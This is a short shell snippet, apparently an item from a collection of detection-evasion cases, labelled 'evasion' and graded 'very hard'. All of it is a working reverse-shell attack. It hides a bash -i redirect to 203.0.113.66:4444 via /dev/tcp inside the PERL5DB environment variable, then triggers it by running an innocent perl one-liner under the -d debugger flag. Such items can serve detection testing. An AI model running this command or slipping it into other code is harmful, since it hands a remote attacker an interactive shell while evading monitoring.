# evasion: perl runs a harmless one-liner under -d; the code is the debugger, loaded from the PERL5DB environment variable
# grade: very hard; does: shell
export PERL5DB='BEGIN { exec q(/bin/bash), q(-c), q(bash -i >& /dev/tcp/203.0.113.66/4444 0>&1) }'
perl -d -e 'print "ok\n"'
